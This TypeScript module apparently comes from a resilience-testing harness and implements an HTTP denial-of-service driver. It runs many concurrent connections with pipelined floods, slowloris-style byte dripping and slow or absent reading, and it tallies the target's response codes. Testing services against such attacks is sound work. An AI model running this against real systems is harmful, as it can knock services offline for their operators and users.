import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** What is written to connections. */
export interface Plan {
  readonly connections: number;
  /** The pieces of the n-th message; few and built beforehand, since the attacker shares the cores with the service. */
  message(n: number): readonly Buffer[];
  /** How a connection goes on: after the answer and a pause, or without waiting for answers. */
  readonly goesOn: 'answered' | 'at-once';
  readonly pauseMs?: number;
  /** After so many messages a connection writes nothing more. */
  readonly messagesMax?: number;
  readonly reads?: 'nothing' | 'slowly';
  readonly writes?: 'slowly';
}

export interface Target {
  readonly host: string;
  readonly port: number;
  /** The attacker has an address of its own. */
  readonly from: string;
}

/** Answers by status; `cut` counts connections that ended without one. */
export type Counts = Record<string, number>;

const start = Buffer.from('HTTP/1.1 ');
const slowBytes = 16;
const slowMs = 100;
const againMs = 200;

/** Does as planned until the time is up. */
export async function attack(plan: Plan, target: Target, seconds: number): Promise<Counts> {
  const counts: Counts = {};
  const end = performance.now() + seconds * 1000;
  let serial = 0;
  const one = async () => {
    while (performance.now() < end) {
      await new Connection(plan, target, counts, () => serial++).live(end);
      // A connection that ended after its answer keeps to the pause as well.
      await sleep(Math.max(0, Math.min(plan.pauseMs ?? againMs, end - performance.now())));
    }
  };
  await Promise.all(Array.from({ length: plan.connections }, one));
  return counts;
}

class Connection {
  readonly #plan: Plan;
  readonly #target: Target;
  readonly #counts: Counts;
  readonly #nextSerial: () => number;
  #written = 0;
  #answered = 0;
  #tail = Buffer.alloc(0);

  constructor(plan: Plan, target: Target, counts: Counts, nextSerial: () => number) {
    this.#plan = plan;
    this.#target = target;
    this.#counts = counts;
    this.#nextSerial = nextSerial;
  }

  /** Resolves when the connection ended, or at the end of the attack. */
  live(end: number): Promise<void> {
    const { host, port, from } = this.#target;
    const socket = net.connect({ host, port, localAddress: from, noDelay: true });
    return new Promise((resolve) => {
      const timer = setTimeout(() => socket.destroy(), end - performance.now());
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearTimeout(timer);
        if (this.#answered === 0 && this.#plan.reads === undefined && performance.now() < end)
          this.#count('cut');
        resolve();
      });
      socket.on('connect', () => void this.#write(socket));
      this.#read(socket);
    });
  }

  async #write(socket: net.Socket): Promise<void> {
    const { message, goesOn, messagesMax = Infinity, writes } = this.#plan;
    do {
      this.#written += 1;
      for (const piece of message(this.#nextSerial())) {
        if (writes === 'slowly') await drip(socket, piece);
        else if (!socket.write(piece)) await drained(socket);
        if (socket.destroyed) return;
      }
    } while (goesOn === 'at-once' && this.#written < messagesMax);
  }

  #read(socket: net.Socket): void {
    const { reads, goesOn, pauseMs = 0, messagesMax = Infinity } = this.#plan;
    if (reads === 'nothing') return void socket.pause();
    socket.on('data', (chunk) => {
      const found = this.#scan(chunk);
      if (reads === 'slowly') {
        socket.pause();
        setTimeout(() => socket.resume(), slowMs);
      }
      if (found === 0 || goesOn === 'at-once' || this.#written >= messagesMax) return;
      setTimeout(() => void (socket.destroyed || this.#write(socket)), pauseMs);
    });
  }

  /** Counts the status lines in what arrived. */
  #scan(chunk: Buffer): number {
    const bytes = this.#tail.length === 0 ? chunk : Buffer.concat([this.#tail, chunk]);
    let found = 0;
    let at = bytes.indexOf(start);
    for (; at >= 0 && at + 12 <= bytes.length; at = bytes.indexOf(start, at + 12)) {
      this.#count(bytes.toString('latin1', at + 9, at + 12));
      found += 1;
    }
    this.#tail = Buffer.from(at >= 0 ? bytes.subarray(at) : bytes.subarray(-(start.length - 1)));
    this.#answered += found;
    return found;
  }

  #count(name: string): void {
    this.#counts[name] = (this.#counts[name] ?? 0) + 1;
  }
}

const drained = (socket: net.Socket) =>
  new Promise<void>((resolve) => {
    const go = () => {
      socket.off('drain', go);
      socket.off('close', go);
      resolve();
    };
    socket.on('drain', go);
    socket.on('close', go);
  });

async function drip(socket: net.Socket, piece: Buffer): Promise<void> {
  for (let at = 0; at < piece.length && !socket.destroyed; at += slowBytes) {
    socket.write(piece.subarray(at, at + slowBytes));
    await sleep(slowMs);
  }
}
